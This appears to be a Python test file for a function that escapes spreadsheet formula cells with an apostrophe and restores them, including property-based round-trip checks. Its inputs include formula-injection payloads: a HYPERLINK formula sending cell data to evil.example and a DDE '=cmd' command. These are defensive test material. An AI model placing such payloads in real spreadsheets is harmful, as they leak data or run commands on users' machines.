"""What a spreadsheet would calculate is written as text, and read as it was."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from corrections.record.formula_cells import neutralised, restored

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "-4", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1",
    "\u200b=1", "\ufeff@x", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u2212 4",
    '=HYPERLINK("https://evil.example/?"&A1;"open")', "=cmd|' /C calc'!A0", "'=1", "''-1",
)  # fmt: skip

WORDS = ("", "He said = yes", "4 - 4", "'tis so", "’=1", "1=1", "(+3)", "« -4 % »", "'", "a\n=1")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert neutralised(text) == f"'{text}"
    assert restored(f"'{text}") == text


@pytest.mark.parametrize("text", WORDS)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert (neutralised(text), restored(text)) == (text, text)


@given(st.text(alphabet="'=+-@＝ \t\r\n\u200ba1", max_size=8) | st.text())
def test_every_text_is_read_as_it_was(text: str) -> None:
    cell = neutralised(text)
    assert restored(cell) == text
    assert cell.lstrip(" \t\r\n\u00a0\u200b\ufeff")[:1] not in ("=", "+", "-", "@", "＝")
